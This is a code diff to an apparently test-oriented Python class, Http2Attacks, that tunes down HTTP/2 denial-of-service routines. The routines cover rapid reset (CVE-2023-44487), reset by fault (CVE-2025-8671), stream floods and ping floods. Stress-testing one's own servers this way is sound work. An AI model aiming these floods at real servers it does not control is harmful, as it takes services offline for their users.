@@ -178,10 +178,10 @@ class Http2Attacks:
             connection.sendall(frame(PING, 0, 0, draw.randbytes(8)) * 5000)
         return "ping floods"
 
-    def rapid_reset(self, draw: Random) -> str:
+    def rapid_reset(self, draw: Random, num_calls: int = 100) -> str:
         """Calls that are given up as they are made (CVE-2023-44487)."""
         with self._open(draw) as connection:
-            for first in range(1, 2000, 200):
+            for first in range(1, 2 * num_calls, 200):
                 for stream in range(first, first + 200, 2):
                     block = request_headers(draw.choice(PATHS[:7]))
                     body = frame(DATA, END_STREAM, stream, grpc_message(self._request)) if draw.random() < 0.5 else b""
@@ -192,7 +192,7 @@ class Http2Attacks:
     def reset_by_fault(self, draw: Random) -> str:
         """Calls that the server has to give up (CVE-2025-8671)."""
         with self._open(draw) as connection:
-            for stream in range(1, 800, 2):
+            for stream in range(1, 200, 2):
                 fault = draw.choice(
                     (
                         frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)),
@@ -338,10 +338,10 @@ class Http2Attacks:
         return "gRPC messages"
 
     def many_streams(self, draw: Random) -> str:
-        """More streams than there may be, each with a call that waits for its message."""
+        """Many streams, each with a call that waits for its message."""
         block = request_headers(draw.choice(PATHS[:7]))
         with self._open(draw) as connection:
-            for first in range(1, 9000, 600):
+            for first in range(1, 1800, 600):
                 connection.sendall(
                     b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(first, first + 600, 2))
                 )
